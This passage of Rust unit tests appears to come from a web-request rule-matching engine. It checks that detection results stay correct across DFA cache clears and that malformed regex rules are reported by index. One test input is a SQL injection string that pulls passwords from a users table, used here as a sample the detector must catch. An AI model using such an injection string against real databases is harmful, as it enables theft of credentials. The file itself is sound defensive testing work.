        let attack = "1' UNION SELECT password FROM users--";
        let benign = "o'reilly trail runner, size 42 (blue)";
        let still_right = |when: &str| {
            let found = ids(&set, Targets::ARGS, attack);
            assert!(!found.is_empty(), "{when}");
            assert_eq!(found, brute_force(&set, Targets::ARGS, attack), "{when}");
            assert_eq!(
                ids(&set, Targets::ARGS, benign),
                Vec::<u32>::new(),
                "{when}"
            );
        };
        still_right("before");
        let mut crafted = Crafted(0x9e37_79b9);
        let mut clears = 0;
        let mut values = 0;
        let mut gave_up = 0;
        // Three clears, then the gate gives up on the values that keep
        // building states (the per-rule automata decide them) until enough
        // bytes have gone through the states it has: a fourth clear shows
        // it resumes.
        while clears < 4 {
            assert!(values < 5_000, "{clears} clears after {values} values");
            let value = crafted.value();
            let found = ids(&set, Targets::ARGS, &value);
            // Every rule run on every value would take most of the time.
            if values % 16 == 0 {
                assert_eq!(found, brute_force(&set, Targets::ARGS, &value), "{value:?}");
            }
            values += 1;
            within_bound(&value);
            if clears >= 3 {
                // The search the scan made, once more: it gives up again.
                let input = Input::new(value.as_bytes()).earliest(true);
                let mut cache = data.cache.borrow_mut();
                gave_up += usize::from(data.dfa.try_search_fwd(&mut cache, &input).is_err());
            }
            let now = data.cache.borrow().clear_count();
            if now != clears {
                clears = now;
                still_right(&format!("after clear {clears}"));
            }
        }
        assert!(gave_up > 0, "the gate never gave up");
        still_right("after");
    }

    #[test]
    fn bad_patterns_name_the_rule() {
        let err = RuleSet::compile(&[
            spec(1, "a", Pattern::Regex("ok".into())),
            spec(2, "a", Pattern::Regex("(".into())),
        ])
        .unwrap_err();
        assert_eq!(err.0, 1);
        let err = RuleSet::compile(&[spec(1, "a", Pattern::Regex("(a)\\1".into()))]).unwrap_err();
        assert_eq!(err.0, 0);
    }
}
